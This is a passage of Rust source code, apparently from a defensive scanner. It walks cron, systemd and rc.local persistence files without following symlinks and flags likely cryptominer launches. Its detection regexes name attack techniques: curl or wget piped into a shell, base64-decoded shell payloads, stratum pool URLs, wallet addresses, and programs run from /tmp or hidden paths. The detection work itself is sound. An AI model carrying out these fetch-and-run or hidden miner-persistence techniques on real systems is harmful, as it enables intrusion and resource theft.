            gaps.add(
                tree.display(rel),
                format!("symlink to {target}: not followed"),
            );
            None
        }
        Got::Skip => None,
    }
}

const SYSCTL_DIRS: &[&str] = &[
    "etc/sysctl.d",
    "run/sysctl.d",
    "usr/lib/sysctl.d",
    "lib/sysctl.d",
];

fn scan_sysctl(tree: &Tree, gaps: &mut Gaps) -> Vec<SysctlSetting> {
    let covered = |target: &str| {
        target == "/dev/null"
            || target == "/etc/sysctl.conf"
            || SYSCTL_DIRS
                .iter()
                .any(|d| target.starts_with(&format!("/{d}/")))
    };
    let mut files: Vec<(String, Got)> = vec![(
        "etc/sysctl.conf".to_string(),
        tree.read(gaps, "etc/sysctl.conf", CONFIG_CAP, false),
    )];
    for dir in SYSCTL_DIRS {
        let mut listed = tree.list(gaps, dir, 0, CONFIG_CAP, false);
        listed.retain(|(rel, _)| rel.ends_with(".conf"));
        files.extend(listed);
    }
    let mut out = Vec::new();
    for (rel, got) in files {
        match got {
            Got::File(f) => {
                let file = tree.display(&rel);
                for (i, line) in String::from_utf8_lossy(&f.data).lines().enumerate() {
                    let line = line.trim();
                    if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
                        continue;
                    }
                    let Some((key, value)) = line.trim_start_matches('-').split_once('=') else {
                        continue;
                    };
                    let key = key.trim().replace('/', ".");
                    if SYSCTL_KEYS.contains(&key.as_str()) {
                        out.push(SysctlSetting {
                            file: file.clone(),
                            line: line_no(i),
                            key,
                            value: value.trim().to_string(),
                        });
                    }
                }
            }
            Got::Symlink(target) => {
                let resolved = resolve_link(&rel, &target);
                if !covered(&resolved) {
                    gaps.add(
                        tree.display(&rel),
                        format!("symlink to {target}: not followed"),
                    );
                }
            }
            Got::Skip => {}
        }
    }
    out
}

fn line_no(index: usize) -> u32 {
    u32::try_from(index + 1).unwrap_or(u32::MAX)
}

// ---------------------------------------------------------------------------
// Persistence
// ---------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Format {
    /// /etc/crontab, /etc/cron.d: five time fields (or @keyword), user, command.
    SystemCrontab,
    /// crontab -e files: no user field.
    UserCrontab,
    /// A shell script run as a whole (cron.daily/*, rc.local).
    Script,
    /// A systemd unit or drop-in: ExecStart*= lines.
    Unit,
}

struct Source {
    kind: &'static str,
    format: Format,
    rel: &'static str,
    /// None: a single file; Some(depth): a directory, listed this deep.
    dir_depth: Option<usize>,
}

const SOURCES: &[Source] = &[
    Source {
        kind: "cron",
        format: Format::SystemCrontab,
        rel: "etc/crontab",
        dir_depth: None,
    },
    Source {
        kind: "cron",
        format: Format::SystemCrontab,
        rel: "etc/cron.d",
        dir_depth: Some(0),
    },
    Source {
        kind: "cron",
        format: Format::UserCrontab,
        rel: "var/spool/cron/crontabs",
        dir_depth: Some(0),
    },
    // Red Hat keeps user crontabs directly here.
    Source {
        kind: "cron",
        format: Format::UserCrontab,
        rel: "var/spool/cron",
        dir_depth: Some(0),
    },
    Source {
        kind: "cron",
        format: Format::Script,
        rel: "etc/cron.hourly",
        dir_depth: Some(0),
    },
    Source {
        kind: "cron",
        format: Format::Script,
        rel: "etc/cron.daily",
        dir_depth: Some(0),
    },
    Source {
        kind: "cron",
        format: Format::Script,
        rel: "etc/cron.weekly",
        dir_depth: Some(0),
    },
    Source {
        kind: "cron",
        format: Format::Script,
        rel: "etc/cron.monthly",
        dir_depth: Some(0),
    },
    Source {
        kind: "systemd",
        format: Format::Unit,
        rel: "etc/systemd/system",
        dir_depth: Some(MAX_DEPTH),
    },
    Source {
        kind: "systemd",
        format: Format::Unit,
        rel: "lib/systemd/system",
        dir_depth: Some(1),
    },
    Source {
        kind: "systemd",
        format: Format::Unit,
        rel: "usr/lib/systemd/system",
        dir_depth: Some(1),
    },
    Source {
        kind: "systemd",
        format: Format::Unit,
        rel: "etc/systemd/user",
        dir_depth: Some(MAX_DEPTH),
    },
    Source {
        kind: "systemd",
        format: Format::Unit,
        rel: "root/.config/systemd/user",
        dir_depth: Some(MAX_DEPTH),
    },
    Source {
        kind: "systemd",
        format: Format::Unit,
        rel: "usr/lib/systemd/user",
        dir_depth: Some(1),
    },
    Source {
        kind: "rc.local",
        format: Format::Script,
        rel: "etc/rc.local",
        dir_depth: None,
    },
    Source {
        kind: "rc.local",
        format: Format::Script,
        rel: "etc/rc.d/rc.local",
        dir_depth: None,
    },
];

/// Symlink targets inside trees that are read anyway (package-managed units).
const UNIT_COVERED: &[&str] = &["/etc/systemd/", "/lib/systemd/", "/usr/lib/systemd/"];

fn scan_persistence(tree: &Tree, gaps: &mut Gaps) -> Vec<PersistenceEntry> {
    /// (kind, format, the scanned directory, its files)
    type Found = (&'static str, Format, String, Vec<(String, Got)>);
    let mut found: Vec<Found> = Vec::new();
    for src in SOURCES {
        let files = match src.dir_depth {
            None => vec![(
                src.rel.to_string(),
                tree.read(gaps, src.rel, CONFIG_CAP, true),
            )],
            Some(depth) => tree.list(gaps, src.rel, depth, CONFIG_CAP, true),
        };
        found.push((src.kind, src.format, src.rel.to_string(), files));
    }
    // <root>/home/*/.config/systemd/user
    for home in tree.list_dirs(gaps, "home") {
        let rel = format!("{home}/.config/systemd/user");
        let files = tree.list(gaps, &rel, MAX_DEPTH, CONFIG_CAP, true);
        found.push(("systemd", Format::Unit, rel, files));
    }

    let mut out = Vec::new();
    for (kind, format, scanned, files) in found {
        for (rel, got) in files {
            match got {
                Got::File(f) => out.extend(analyze_file(kind, format, &tree.display(&rel), &f)),
                Got::Symlink(target) => {
                    let resolved = resolve_link(&rel, &target);
                    let covered = format == Format::Unit
                        && (resolved == "/dev/null"
                            || resolved.starts_with(&format!("/{scanned}/"))
                            || UNIT_COVERED.iter().any(|p| resolved.starts_with(p)));
                    if covered {
                        continue;
                    }
                    let path = tree.display(&rel);
                    gaps.add(path.clone(), format!("symlink to {target}: not followed"));
                    let mut reasons = file_name_reasons(format, basename(&rel));
                    for r in path_reasons(&resolved) {
                        push_unique(&mut reasons, r);
                    }
                    if !reasons.is_empty() {
                        out.push(PersistenceEntry {
                            kind: kind.to_string(),
                            path,
                            line: 0,
                            text: cap_text(&format!("symlink -> {target}")),
                            reasons,
                            immutable: false,
                            executable: None,
                        });
                    }
                }
                Got::Skip => {}
            }
        }
    }
    out
}

/// Reasons that come from a persistence file's name.
fn file_name_reasons(format: Format, name: &str) -> Vec<String> {
    let mut reasons = Vec::new();
    let lower = name.to_ascii_lowercase();
    if format == Format::Unit && lower.contains("miner") && lower.contains(".service") {
        reasons.push(format!("unit named like a miner ({name})"));
    }
    for n in miner_names_in(name) {
        push_unique(&mut reasons, format!("file named like the miner {n}"));
    }
    reasons
}

fn analyze_file(kind: &str, format: Format, path: &str, file: &FileRead) -> Vec<PersistenceEntry> {
    let mut file_reasons = file_name_reasons(format, basename(path));
    let is_elf = file.data.starts_with(b"\x7fELF");
    if is_elf && format == Format::Script {
        file_reasons.push("a compiled program, not a script".to_string());
    }
    if file.immutable {
        file_reasons.push("immutable (chattr +i)".to_string());
    }
    let text = String::from_utf8_lossy(&file.data);
    let entry = |line: u32, text: &str, reasons: Vec<String>, executable: Option<String>| {
        PersistenceEntry {
            kind: kind.to_string(),
            path: path.to_string(),
            line,
            text: cap_text(text.trim()),
            reasons,
            immutable: file.immutable,
            executable,
        }
    };
    let mut out = Vec::new();
    let mut first: Option<(u32, String, Option<String>)> = None;
    if !is_elf {
        for (line, logical) in logical_lines(&text, matches!(format, Format::Script | Format::Unit))
        {
            let Some(cmd) = command_of(format, &logical) else {
                continue;
            };
            let (mut reasons, executable) = analyze_command(cmd.text, cmd.program);
            if first.is_none() {
                first = Some((line, logical.clone(), executable.clone()));
            }
            if cmd.at_reboot && !reasons.is_empty() {
                reasons.push("runs at boot (@reboot)".to_string());
            }
            if !reasons.is_empty() {
                for r in &file_reasons {
                    push_unique(&mut reasons, r.clone());
                }
                out.push(entry(line, &logical, reasons, executable));
            }
        }
    }
    if out.is_empty() && !file_reasons.is_empty() {
        let (line, text, executable) = first.unwrap_or((0, String::new(), None));
        out.push(entry(line, &text, file_reasons, executable));
    }
    out
}

/// Lines with their 1-based number; with `continuation`, lines ending in a
/// backslash are joined to the next (numbered by the first).
fn logical_lines(text: &str, continuation: bool) -> Vec<(u32, String)> {
    let mut out = Vec::new();
    let mut pending: Option<(u32, String)> = None;
    for (i, line) in text.lines().enumerate() {
        let (start, mut acc) = pending.take().unwrap_or((line_no(i), String::new()));
        let trimmed = line.trim_end();
        if continuation && trimmed.ends_with('\\') && !trimmed.trim_start().starts_with('#') {
            acc.push_str(&trimmed[..trimmed.len() - 1]);
            acc.push(' ');
            pending = Some((start, acc));
        } else {
            acc.push_str(line);
            out.push((start, acc));
        }
    }
    if let Some(p) = pending {
        out.push(p);
    }
    out
}

struct Command<'a> {
    /// Text the indicator patterns run on.
    text: &'a str,
    /// Text the launched programs are parsed from (cron: without the user field).
    program: &'a str,
    at_reboot: bool,
}

static ASSIGNMENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*\s*=").expect("static regex"));

/// The command part of a line, or None for comments, blanks and settings.
fn command_of(format: Format, line: &str) -> Option<Command<'_>> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    match format {
        Format::Script => Some(Command {
            text: line,
            program: line,
            at_reboot: false,
        }),
        Format::Unit => {
            if line.starts_with(';') {
                return None;
            }
            let (key, value) = line.split_once('=')?;
            if !matches!(key.trim(), "ExecStart" | "ExecStartPre" | "ExecStartPost") {
                return None;
            }
            let value = value
                .trim()
                .trim_start_matches(['@', '-', ':', '+', '!', '|']);
            (!value.is_empty()).then_some(Command {
                text: value,
                program: value,
                at_reboot: false,
            })
        }
        Format::SystemCrontab | Format::UserCrontab => {
            if ASSIGNMENT.is_match(line) {
                return None;
            }
            let (fields, at_reboot) = if line.starts_with('@') {
                (1, line.split_whitespace().next() == Some("@reboot"))
            } else {
                (5, false)
            };
            let text = skip_words(line, fields)?;
            let mut program = text;
            if format == Format::SystemCrontab {
                // the user field, unless it is plainly a command (no user given)
                let user = text.split_whitespace().next().unwrap_or("");
                if !user.contains('/') {
                    program = skip_words(text, 1).unwrap_or("");
                }
            }
            (!text.is_empty()).then_some(Command {
                text,
                program,
                at_reboot,
            })
        }
    }
}

/// `s` without its first `n` whitespace-separated words.
fn skip_words(s: &str, n: usize) -> Option<&str> {
    let mut rest = s.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace)?;
        rest = rest[end..].trim_start();
    }
    Some(rest)
}

static PIPE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget|fetch|lwp-download|lwp-request|tftp)\b[^|;\n]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl)\b",
    )
    .expect("static regex")
});
static SHELL_SUBST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:ba|da|z|k|a)?sh\s+(?:-c\s*["']?\$\(|<\s*\()\s*(?:curl|wget)\b"#)
        .expect("static regex")
});
static B64_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bbase64\s+(?:-[a-z]*d[a-z]*|--decode)\b[^|;\n]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|da|z|k|a)?sh\b")
        .expect("static regex")
});
static STRATUM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)stratum2?\+(?:tcp|ssl|tls)://").expect("static regex"));
static POOL_ARG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|\s)(?:-o|--url)(?:\s+|=)\S+:\d{2,5}\b").expect("static regex")
});
static USER_ARG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|\s)(?:-u|--user)(?:\s+|=)\S+").expect("static regex"));
static BACKGROUND_ARG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|\s)(?:-B|--background)(?:\s|$)").expect("static regex"));
static WALLET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}(?:[1-9A-HJ-NP-Za-km-z]{11})?\b")
        .expect("static regex")
});

/// Why a command looks like it launches a miner, and the program it runs.
fn analyze_command(text: &str, program_text: &str) -> (Vec<String>, Option<String>) {
    let mut reasons: Vec<String> = Vec::new();
    if PIPE_SHELL.is_match(text) || SHELL_SUBST.is_match(text) {
        push_unique(&mut reasons, "downloads and pipes into a shell".to_string());
    }
    if B64_SHELL.is_match(text) {
        push_unique(
            &mut reasons,
            "decodes base64 and pipes into a shell".to_string(),
        );
    }
    let programs = programs(program_text);
    for p in &programs {
        for r in path_reasons(p) {
            push_unique(&mut reasons, r);
        }
    }
    for n in miner_names_in(text) {
        push_unique(&mut reasons, format!("names the miner {n}"));
    }
    let stratum = STRATUM.is_match(text);
    let pool = POOL_ARG.is_match(text);
    if stratum {
        push_unique(&mut reasons, "has a stratum pool URL".to_string());
    }
    for flag in ["--donate-level", "--cpu-max-threads-hint"] {
        if text.contains(flag) {
            push_unique(&mut reasons, format!("has the miner flag {flag}"));
        }
    }
    if pool && USER_ARG.is_match(text) {
        push_unique(
            &mut reasons,
            "has pool arguments (-o host:port -u user)".to_string(),
        );
    }
    if BACKGROUND_ARG.is_match(text) && (stratum || pool) {
        push_unique(
            &mut reasons,
            "runs in the background (-B) with a pool".to_string(),
        );
    }
    if WALLET.is_match(text) {
        push_unique(&mut reasons, "has a Monero wallet address".to_string());
    }
    (reasons, programs.into_iter().next())
}

/// Reasons from the path of a launched program.
fn path_reasons(program: &str) -> Vec<String> {
    let mut reasons = Vec::new();
    for dir in ["/tmp", "/var/tmp", "/dev/shm"] {
        if program
            .strip_prefix(dir)
            .is_some_and(|r| r.starts_with('/'))
        {
            reasons.push(format!("runs from {dir}"));
        }
    }
    let parts: Vec<&str> = program.split('/').filter(|c| !c.is_empty()).collect();
    if let Some((last, dirs)) = parts.split_last() {
        if program.contains('/') {
            if dirs
                .iter()
                .any(|d| d.starts_with('.') && *d != "." && *d != "..")
            {
                reasons.push("runs from a hidden directory".to_string());
            }
            if last.starts_with('.') && *last != "." && *last != ".." {
                reasons.push("runs a hidden file".to_string());
            }
        }
        if KTHREAD_NAME.is_match(&last.to_ascii_lowercase()) {
            reasons.push(format!(
                "runs a program named like a kernel thread ({last})"
            ));
        }
    }
    reasons
}

/// Known miner and campaign names that appear as a word of `text`.
fn miner_names_in(text: &str) -> Vec<&'static str> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    for word in lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-')) {
        for name in MINERS.iter().chain(CAMPAIGN_NAMES) {
            let hit = word == *name || word.strip_prefix(name).is_some_and(|r| r.starts_with('-'));
            if hit && !out.contains(name) {
                out.push(*name);
            }
        }
    }
    out
}

const WRAPPERS: &[&str] = &[
    "nohup", "exec", "setsid", "command", "builtin", "time", "then", "do", "else", "if", "elif",
    "while", "until", "!", "eval", "sudo", "doas", "nice", "ionice", "env", "stdbuf", "chrt",
    "taskset", "timeout", "busybox", "xargs", "cpulimit",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "csh", "tcsh", "fish",
];
const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "node", "php", "lua",
];

/// The programs a shell command line runs (best effort, no full shell parse):
/// the first word of each simple command after wrappers like nohup/sudo/nice,
/// the script given to sh/bash/python, and the inner command of `sh -c`.
fn programs(cmd: &str) -> Vec<String> {
    let cleaned: String = cmd
        .replace(">&", "> ")
        .replace("&>", " >")
        .chars()
        .map(|c| {
            if matches!(c, '\'' | '"' | '\\') {
                ' '
            } else {
                c
            }
        })
        .collect();
    let mut out = Vec::new();
    let mut cwd: Option<String> = None;
    for seg in cleaned.split([';', '&', '|', '(', ')', '`', '\n', '{', '}']) {
        let words = shell_words(seg);
        let Some((i, prog)) = command_word(&words) else {
            continue;
        };
        if prog == "cd" {
            cwd = words.get(i + 1).map(|d| (*d).to_string());
            continue;
        }
        let prog = match &cwd {
            Some(dir) if !prog.starts_with('/') && prog.contains('/') => {
                format!(
                    "{}/{}",
                    dir.trim_end_matches('/'),
                    prog.trim_start_matches("./")
                )
            }
            _ => prog.to_string(),
        };
        out.push(prog);
    }
    out
}

/// Whitespace-separated words without redirections.
fn shell_words(seg: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut skip_next = false;
    for w in seg.split_whitespace() {
        if skip_next {
            skip_next = false;
            continue;
        }
        let t = w.trim_start_matches(|c: char| c.is_ascii_digit());
        if t.starts_with('>') || t.starts_with('<') {
            skip_next = t.trim_start_matches(['>', '<']).is_empty();
            continue;
        }
        words.push(w);
    }
    words
}

/// Index and text of the program a simple command runs.
fn command_word<'a>(words: &[&'a str]) -> Option<(usize, &'a str)> {
    let mut i = 0;
    while let Some(&w) = words.get(i) {
        if ASSIGNMENT.is_match(w) {
            i += 1;
            continue;
        }
        let base = basename(w);
        if WRAPPERS.contains(&base) {
            i += 1;
            while let Some(&a) = words.get(i) {
                if matches!(a, "-u" | "-g" | "-C" | "-n" | "-c" | "-p")
                    && (base == "sudo" || base == "doas")
                {
                    i += 2;
                } else if a.starts_with('-')
                    || a.starts_with(|c: char| c.is_ascii_digit())
                    || ASSIGNMENT.is_match(a)
                {
                    i += 1;
                } else {
                    break;
                }
            }
            continue;
        }
        if SHELLS.contains(&base) {
            let mut j = i + 1;
            let mut inline = false;
            while let Some(&a) = words.get(j) {
                if !a.starts_with('-') {
                    break;
                }
                if !a.starts_with("--") && a.contains('c') {
                    inline = true;
                }
                j += 1;
            }
            if inline {
                i = j;
                continue;
            }
            return Some(words.get(j).map_or((i, w), |s| (j, *s)));
        }
        if INTERPRETERS.contains(&base) || base.starts_with("python3.") {
            let mut j = i + 1;
            while let Some(&a) = words.get(j) {
                if matches!(a, "-c" | "-e" | "-m" | "-E") {
                    return Some((i, w));
                }
                if !a.starts_with('-') {
                    break;
                }
                j += 1;
            }
            return Some(words.get(j).map_or((i, w), |s| (j, *s)));
        }
        if base == "." || base == "source" {
            return words.get(i + 1).map(|s| (i + 1, *s));
        }
        return Some((i, w));
    }
    None
}

fn basename(path: &str) -> &str {
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(path)
}

fn push_unique(v: &mut Vec<String>, s: String) {
    if !v.contains(&s) {
        v.push(s);
    }
}

/// At most 300 characters, control characters (terminal escapes in a
/// hostile file) shown as U+FFFD.
fn cap_text(s: &str) -> String {
    s.chars()
        .take(TEXT_CAP)
        .map(|c| {
            if c.is_control() && c != '\t' {
                '\u{FFFD}'
            } else {
                c
            }
        })
        .collect()
}

/// Lexical target of a symlink at `<root>/<link_rel>`, as a host path.
fn resolve_link(link_rel: &str, target: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    if !target.starts_with('/') {
        parts.extend(link_rel.split('/').filter(|c| !c.is_empty()));
        parts.pop();
    }
    for c in target.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            c => parts.push(c),
        }
    }
    format!("/{}", parts.join("/"))
}

// ---------------------------------------------------------------------------
// Safe filesystem access
// ---------------------------------------------------------------------------

#[derive(Default)]
struct Gaps(Vec<(String, String)>);

impl Gaps {
    fn add(&mut self, what: impl Into<String>, error: impl Into<String>) {
        let gap = (what.into(), error.into());
        if !self.0.contains(&gap) {
            self.0.push(gap);
        }
    }
}

struct FileRead {
    data: Vec<u8>,
    truncated: bool,
    immutable: bool,
}

enum Got {
    File(FileRead),
    /// A symlink (target text); never followed.
    Symlink(String),
    /// Absent, or an error already recorded as a gap.
    Skip,
}

enum ReadError {
    Missing,
    Symlink(String),
    NotRegular(&'static str),
    Io(io::Error),
}

impl std::fmt::Display for ReadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ReadError::Missing => write!(f, "not found"),
            ReadError::Symlink(t) => write!(f, "symlink to {t}: not followed"),
            ReadError::NotRegular(k) => write!(f, "{k}, not a regular file: not opened"),
            ReadError::Io(e) => write!(f, "{e}"),
        }
    }
}

enum WalkError {
    Missing,
    /// A merged-/usr alias (`/lib -> usr/lib`): the real tree is read anyway.
    Alias,
    Symlink {
        at: String,
        target: String,
    },
    NotDir {
        at: String,
        kind: &'static str,
    },
    Io {
        at: String,
        error: io::Error,
    },
}

/// A directory we read below, without following symlinks under it.
struct Tree {
    base: PathBuf,
    fd: Option<OwnedFd>,
}

impl Tree {
    fn open(base: &Path, gaps: &mut Gaps) -> Tree {
        let fd = match open_dir_path(base) {
            Ok(fd) => Some(fd),
            Err(e) => {
                gaps.add(base.display().to_string(), e.to_string());
                None
            }
        };
        Tree {
            base: base.to_path_buf(),
            fd,
        }
    }

    fn display(&self, rel: &str) -> String {
        let rel = rel.trim_start_matches('/');
        if rel.is_empty() {
            self.base.display().to_string()
        } else {
            self.base.join(rel).display().to_string()
        }
    }

    /// Opens `rel` (a directory) one component at a time, never following a symlink.
    fn walk(&self, rel: &str) -> Result<OwnedFd, WalkError> {
        let base = self.fd.as_ref().ok_or(WalkError::Missing)?;
        let mut cur = base.try_clone().map_err(|error| WalkError::Io {
            at: self.display(""),
            error,
        })?;
        let mut so_far = String::new();
        for (index, comp) in rel
            .split('/')
            .filter(|c| !c.is_empty() && *c != ".")
            .enumerate()
        {
            if !so_far.is_empty() {
                so_far.push('/');
            }
            so_far.push_str(comp);
            match open_at(&cur, comp.as_bytes(), DIR_FLAGS) {
                Ok(fd) => cur = fd,
                Err(error) => {
                    let errno = error.raw_os_error();
                    if errno == Some(libc::ENOENT) {
                        return Err(WalkError::Missing);
                    }
                    let at = self.display(&so_far);
                    return Err(match lstat_at(&cur, comp.as_bytes()) {
                        Ok(st) if st.st_mode & libc::S_IFMT == libc::S_IFLNK => {
                            let target = read_link_at(&cur, comp.as_bytes()).unwrap_or_default();
                            let alias = index == 0
                                && matches!(comp, "lib" | "lib64" | "lib32" | "bin" | "sbin")
                                && target.trim_matches('/') == format!("usr/{comp}");
                            if alias {
                                WalkError::Alias
                            } else {
                                WalkError::Symlink { at, target }
                            }
                        }
                        Ok(st) if st.st_mode & libc::S_IFMT != libc::S_IFDIR => WalkError::NotDir {
                            at,
                            kind: mode_kind(st.st_mode),
                        },
                        _ => WalkError::Io { at, error },
                    });
                }
            }
        }
        Ok(cur)
    }

    fn walk_gap(gaps: &mut Gaps, e: WalkError) {
        match e {
            WalkError::Missing | WalkError::Alias => {}
            WalkError::Symlink { at, target } => {
                gaps.add(at, format!("symlink to {target}: not followed"))
            }
            WalkError::NotDir { at, kind } => gaps.add(at, format!("{kind}, not a directory")),
            WalkError::Io { at, error } => gaps.add(at, error.to_string()),
        }
    }

    /// Reads the regular file `rel`.
    fn read(&self, gaps: &mut Gaps, rel: &str, cap: usize, flags: bool) -> Got {
        let rel = rel.trim_matches('/');
        let (dir_rel, name) = rel.rsplit_once('/').unwrap_or(("", rel));
        let dir = match self.walk(dir_rel) {
            Ok(d) => d,
            Err(e) => {
                Tree::walk_gap(gaps, e);
                return Got::Skip;
            }
        };
        self.read_in(gaps, &dir, rel, name.as_bytes(), cap, flags)
    }

    fn read_in(
        &self,
        gaps: &mut Gaps,
        dir: &OwnedFd,
        rel: &str,
        name: &[u8],
        cap: usize,
        flags: bool,
    ) -> Got {
        match read_at(dir, name, cap, flags) {
            Ok(f) => {
                if f.truncated {
                    gaps.add(
                        self.display(rel),
                        format!("truncated: read only the first {cap} bytes"),
                    );
                }
                Got::File(f)
            }
            Err(ReadError::Missing) => Got::Skip,
            Err(ReadError::Symlink(t)) => Got::Symlink(t),
            Err(e) => {
                gaps.add(self.display(rel), e.to_string());
                Got::Skip
            }
        }
    }

    /// Regular files and symlinks in `rel_dir`, `depth` levels of subdirectories
    /// deep, sorted by path. FIFOs, sockets and devices are recorded as gaps.
    fn list(
        &self,
        gaps: &mut Gaps,
        rel_dir: &str,
        depth: usize,
        cap: usize,
        flags: bool,
    ) -> Vec<(String, Got)> {
        let dir = match self.walk(rel_dir) {
            Ok(d) => d,
            Err(e) => {
                Tree::walk_gap(gaps, e);
                return Vec::new();
            }
        };
        let mut out = Vec::new();
        let mut budget = MAX_TREE_FILES;
        self.list_in(
            gaps,
            &dir,
            rel_dir.trim_matches('/'),
            depth,
            cap,
            flags,
            &mut budget,
            &mut out,
        );
        out.sort_by(|a, b| a.0.cmp(&b.0));
        out
    }

    #[allow(clippy::too_many_arguments)]
    fn list_in(
        &self,
        gaps: &mut Gaps,
        dir: &OwnedFd,
        rel_dir: &str,
        depth: usize,
        cap: usize,
        flags: bool,
        budget: &mut usize,
        out: &mut Vec<(String, Got)>,
    ) {
        let entries = match getdents(dir, MAX_DIR_ENTRIES) {
            Ok((entries, truncated)) => {
                if truncated {
                    gaps.add(
                        self.display(rel_dir),
                        format!("more than {MAX_DIR_ENTRIES} entries; rest not read"),
                    );
                }
                entries
            }
            Err(e) => {
                gaps.add(self.display(rel_dir), e.to_string());
                return;
            }
        };
        for entry in entries {
            let rel = format!("{rel_dir}/{}", String::from_utf8_lossy(&entry.name));
            let kind = match entry.d_type {
                libc::DT_DIR => libc::S_IFDIR,
                libc::DT_REG => libc::S_IFREG,
                libc::DT_LNK => libc::S_IFLNK,
                _ => match lstat_at(dir, &entry.name) {
                    Ok(st) => st.st_mode & libc::S_IFMT,
                    Err(e) => {
                        gaps.add(self.display(&rel), e.to_string());
                        continue;
                    }
                },
            };
            match kind {
                libc::S_IFDIR => {
                    if depth == 0 {
                        continue;
                    }
                    match open_at(dir, &entry.name, DIR_FLAGS) {
                        Ok(sub) => {
                            self.list_in(gaps, &sub, &rel, depth - 1, cap, flags, budget, out)
                        }
                        Err(e) => gaps.add(self.display(&rel), e.to_string()),
                    }
                }
                libc::S_IFLNK => {
                    let target = read_link_at(dir, &entry.name).unwrap_or_default();
                    out.push((rel, Got::Symlink(target)));
                }
                libc::S_IFREG => {
                    if *budget == 0 {
                        gaps.add(
                            self.display(rel_dir),
                            format!("more than {MAX_TREE_FILES} files; rest not read"),
                        );
                        return;
                    }
                    *budget -= 1;
                    let got = self.read_in(gaps, dir, &rel, &entry.name, cap, flags);
                    if !matches!(got, Got::Skip) {
                        out.push((rel, got));
                    }
                }
                other => gaps.add(
                    self.display(&rel),
                    format!("{}, not a regular file: not opened", mode_kind(other)),
                ),
            }
        }
    }

    /// Subdirectories of `rel_dir` (not symlinks to one: those are gaps).
    fn list_dirs(&self, gaps: &mut Gaps, rel_dir: &str) -> Vec<String> {
        let dir = match self.walk(rel_dir) {
            Ok(d) => d,
            Err(e) => {
                Tree::walk_gap(gaps, e);
                return Vec::new();
            }
        };
        let entries = match getdents(&dir, MAX_DIR_ENTRIES) {
            Ok((e, _)) => e,
            Err(e) => {
                gaps.add(self.display(rel_dir), e.to_string());
                return Vec::new();
            }
        };
        let mut out = Vec::new();
        for entry in entries {
            let rel = format!(
                "{}/{}",
                rel_dir.trim_matches('/'),
                String::from_utf8_lossy(&entry.name)
            );
            match lstat_at(&dir, &entry.name) {
                Ok(st) if st.st_mode & libc::S_IFMT == libc::S_IFDIR => out.push(rel),
                Ok(st) if st.st_mode & libc::S_IFMT == libc::S_IFLNK => {
                    let target = read_link_at(&dir, &entry.name).unwrap_or_default();
                    gaps.add(
                        self.display(&rel),
                        format!("symlink to {target}: not followed"),
                    );
                }
                Ok(_) => {}
                Err(e) => gaps.add(self.display(&rel), e.to_string()),
            }
        }
        out.sort();
        out
    }
}

/// A small text value at `rel` below `dir` (procfs/sysfs), without following symlinks.
fn read_value_at(dir: &OwnedFd, rel: &str) -> Option<String> {
    let rel = rel.trim_matches('/');
    let (dir_rel, name) = rel.rsplit_once('/').unwrap_or(("", rel));
    let mut cur = dir.try_clone().ok()?;
    for comp in dir_rel.split('/').filter(|c| !c.is_empty()) {
        cur = open_at(&cur, comp.as_bytes(), DIR_FLAGS).ok()?;
    }
    let f = read_at(&cur, name.as_bytes(), VALUE_CAP, false).ok()?;
    Some(String::from_utf8_lossy(&f.data).into_owned())
}

/// Reads a regular file without following a symlink or opening anything else.
fn read_at(dir: &OwnedFd, name: &[u8], cap: usize, flags: bool) -> Result<FileRead, ReadError> {
    let st = match lstat_at(dir, name) {
        Ok(st) => st,
        Err(e) if matches!(e.raw_os_error(), Some(libc::ENOENT) | Some(libc::ENOTDIR)) => {
            return Err(ReadError::Missing);
        }
        Err(e) => return Err(ReadError::Io(e)),
    };
    match st.st_mode & libc::S_IFMT {
        libc::S_IFREG => {}
        libc::S_IFLNK => {
            return Err(ReadError::Symlink(
                read_link_at(dir, name).unwrap_or_default(),
            ));
        }
        other => return Err(ReadError::NotRegular(mode_kind(other))),
    }
    let fd = match open_at(dir, name, FILE_FLAGS) {
        Ok(fd) => fd,
        Err(e) if e.raw_os_error() == Some(libc::ELOOP) => {
            return Err(ReadError::Symlink(
                read_link_at(dir, name).unwrap_or_default(),
            ));
        }
        Err(e) if e.raw_os_error() == Some(libc::ENOENT) => return Err(ReadError::Missing),
        Err(e) => return Err(ReadError::Io(e)),
    };
    let st = fstat_fd(&fd).map_err(ReadError::Io)?;
    if st.st_mode & libc::S_IFMT != libc::S_IFREG {
        return Err(ReadError::NotRegular(mode_kind(st.st_mode)));
    }
    let immutable = flags && is_immutable(&fd);
    let mut data = Vec::new();
    let limit = u64::try_from(cap).unwrap_or(u64::MAX).saturating_add(1);
    std::fs::File::from(fd)
        .take(limit)
        .read_to_end(&mut data)
        .map_err(ReadError::Io)?;
    let truncated = data.len() > cap;
    data.truncate(cap);
    Ok(FileRead {
        data,
        truncated,
        immutable,
    })
